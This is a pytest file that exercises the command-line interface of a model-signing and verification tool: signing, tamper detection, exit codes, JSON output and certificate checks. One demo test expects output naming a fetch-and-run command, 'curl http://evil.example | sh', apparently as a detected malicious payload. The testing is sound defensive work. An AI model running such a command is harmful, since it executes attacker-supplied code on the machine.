"""The CLI as users run it: a real subprocess, exit codes, messages, JSON, env vars, aliases, no tracebacks."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import MT, MT_KEYS, KeyPair, Pki


def modelseal(
    *args: str | Path, env: dict[str, str] | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "NO_COLOR": "1", "COLUMNS": "200", **(env or {})}
    environment.pop("MODELSEAL_DEBUG", None)
    return subprocess.run(
        [sys.executable, "-m", "modelseal", *map(str, args)],
        capture_output=True,
        text=True,
        env=environment,
        cwd=cwd,
        timeout=120,
        check=False,
    )


def no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr + result.stdout


def test_demo_runs_offline_and_succeeds() -> None:
    result = modelseal("demo")
    assert result.returncode == 0, result.stderr
    assert "Verified" in result.stdout or "verified" in result.stdout
    assert "rejected, as it must be" in result.stdout
    assert "would run: posix.system('curl http://evil.example | sh')" in result.stdout
    assert (
        "(from the attestation)" in result.stdout
        and "sign → verify → tamper → rejected → scan → attest" in result.stdout
    )


def test_sign_then_verify_key(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    pair = make_key_pair()
    signed = modelseal("sign", "key", model_dir, "--private-key", pair.private)
    assert signed.returncode == 0, signed.stderr
    assert (model_dir / "model.sig").is_file()
    verified = modelseal("verify", "key", model_dir, "--public-key", pair.public)
    assert verified.returncode == 0, verified.stderr
    assert "Verified" in verified.stdout


def test_verification_failure_exits_1_with_file_and_hex(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    pair = make_key_pair()
    assert modelseal("sign", "key", model_dir, "--private-key", pair.private).returncode == 0
    (model_dir / "config.json").write_text('{"hidden": 9}')
    result = modelseal("verify", "key", model_dir, "--public-key", pair.public)
    assert result.returncode == 1
    assert "VERIFICATION FAILED" in result.stderr
    assert "modified: 'config.json': signed sha256" in result.stderr
    no_traceback(result)


@pytest.mark.parametrize(
    "args",
    [
        ("sign", "key", "{model}", "--private-key", "/does/not/exist.pem"),
        ("sign", "key", "{model}"),
        ("verify", "key", "{model}", "--public-key", "{model}/config.json"),
        ("sign", "key", "{model}", "--private-key", "{model}/config.json"),
        ("sign", "key", "{model}", "--private-key", "{key}", "--hash", "md5"),
        ("bogus-command",),
    ],
)
def test_bad_usage_exits_2_without_traceback(
    args: tuple[str, ...], model_dir: Path, make_key_pair: Callable[..., KeyPair]
) -> None:
    pair = make_key_pair()
    result = modelseal(*(a.format(model=model_dir, key=pair.private) for a in args))
    assert result.returncode == 2, result.stdout + result.stderr
    no_traceback(result)


def test_missing_signature_exits_2(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    result = modelseal("verify", "key", model_dir, "--public-key", make_key_pair().public)
    assert result.returncode == 2
    assert "signature file" in result.stderr and "does not exist" in result.stderr


def test_empty_model_exits_2(tmp_path: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    (tmp_path / "empty").mkdir()
    result = modelseal("sign", "key", tmp_path / "empty", "--private-key", make_key_pair().private)
    assert result.returncode == 2 and "empty model" in result.stderr
    no_traceback(result)


def test_json_output_is_stable_and_complete(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    pair = make_key_pair()
    modelseal("sign", "key", model_dir, "--private-key", pair.private, "--hash", "blake3")
    result = modelseal("verify", "key", model_dir, "--public-key", pair.public, "--json")
    assert result.returncode == 0
    document = json.loads(result.stdout)
    assert document["schema_version"] == 1 and document["result"] == "verified"
    assert document["serialization"]["hash_type"] == "blake3"
    assert document["files_verified"] == 5
    assert {r["name"] for r in document["resources"]} >= {"config.json", "sub/deeper/empty"}


def test_json_failure_document(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    pair = make_key_pair()
    modelseal("sign", "key", model_dir, "--private-key", pair.private)
    (model_dir / "new.bin").write_bytes(b"x")
    result = modelseal("verify", "key", model_dir, "--public-key", pair.public, "--json")
    assert result.returncode == 1
    document = json.loads(result.stdout)
    assert document["result"] == "failed" and any("new.bin" in d for d in document["details"])


def test_environment_variables_and_underscore_aliases(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    pair = make_key_pair("P-521", password=b"pw")
    signed = modelseal(
        "sign",
        "key",
        model_dir,
        "--private_key",
        pair.private,
        "--ignore_paths",
        "sub",
        env={"MODELSEAL_PASSWORD": "pw", "MODELSEAL_HASH": "blake2b"},
    )
    assert signed.returncode == 0, signed.stderr
    verified = modelseal("verify", "key", model_dir, "--json", env={"MODELSEAL_PUBLIC_KEY": str(pair.public)})
    assert verified.returncode == 0, verified.stderr
    document = json.loads(verified.stdout)
    assert document["serialization"]["hash_type"] == "blake2b"
    assert "sub" in document["serialization"]["ignore_paths"]


def test_certificate_commands(model_dir: Path, pki: Pki) -> None:
    signed = modelseal(
        "sign",
        "certificate",
        model_dir,
        "--private-key",
        pki.leaf_key,
        "--signing-certificate",
        pki.leaf_cert,
        "--certificate-chain",
        pki.intermediate,
    )
    assert signed.returncode == 0, signed.stderr
    ok = modelseal("verify", "certificate", model_dir, "--certificate-chain", pki.root, "--identity", "ml@example.com")
    assert ok.returncode == 0, ok.stderr
    wrong = modelseal(
        "verify", "certificate", model_dir, "--certificate-chain", pki.root, "--identity", "eve@example.com"
    )
    assert wrong.returncode == 1 and "does not belong" in wrong.stderr


def test_verify_reference_fixture_from_cli() -> None:
    result = modelseal(
        "verify",
        "certificate",
        MT / "v1.1.0-certificate",
        "--certificate_chain",
        MT_KEYS / "int-ca-cert.pem",
        "--certificate_chain",
        MT_KEYS / "ca-cert.pem",
    )
    assert result.returncode == 0, result.stderr


def test_digest_command(model_dir: Path, make_key_pair: Callable[..., KeyPair]) -> None:
    pair = make_key_pair()
    signed = modelseal("sign", "key", model_dir, "--private-key", pair.private, "--json")
    root = json.loads(signed.stdout)["root_digest"]["sha256"]
    printed = modelseal("digest", model_dir)
    assert printed.returncode == 0 and printed.stdout.strip() == root


def test_help_lists_env_vars() -> None:
    result = modelseal("sign", "key", "--help")
    assert result.returncode == 0 and "MODELSEAL_PRIVATE_KEY" in result.stdout


def test_public_key_is_exported_from_a_private_key(make_key_pair: Callable[..., KeyPair]) -> None:
    pair = make_key_pair("P-521", password=b"secret")
    exported = modelseal("public-key", "--private-key", pair.private, "--password", "secret")
    assert exported.returncode == 0, exported.stderr
    assert exported.stdout.encode() == pair.public.read_bytes()
    neither = modelseal("public-key")
    assert neither.returncode == 2 and "exactly one signing key" in neither.stderr, neither.stderr


def test_a_file_changing_while_it_is_hashed_is_inconclusive(
    model_dir: Path, make_key_pair: Callable[..., KeyPair]
) -> None:
    """Exit 3 (no verdict), as documented: the bytes were not wrong, they would not hold still."""
    from tests.conftest import concurrent_writer

    big = model_dir / "growing.bin"
    big.write_bytes(os.urandom(32 << 20))
    with concurrent_writer(big):
        result = modelseal("sign", "key", model_dir, "--private-key", make_key_pair().private)
    assert result.returncode == 3, result.stderr
    assert "growing.bin" in result.stderr and "changed" in result.stderr
    no_traceback(result)
    assert not (model_dir / "model.sig").exists()
